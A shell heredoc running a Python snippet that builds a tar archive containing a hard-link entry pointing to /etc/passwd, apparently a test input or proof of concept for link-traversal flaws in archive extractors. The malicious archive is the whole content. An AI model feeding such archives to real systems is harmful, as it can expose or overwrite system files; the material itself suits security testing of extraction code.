python3 - <<'EOF'
import io, sys, tarfile
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w") as tar:
    app = tarfile.TarInfo("top/app")
    app.size = 1
    tar.addfile(app, io.BytesIO(b"x"))
    entry = tarfile.TarInfo("top/second")
    entry.type, entry.linkname = tarfile.LNKTYPE, "/etc/passwd"
    tar.addfile(entry)
sys.stdout.buffer.write(out.getvalue())
EOF
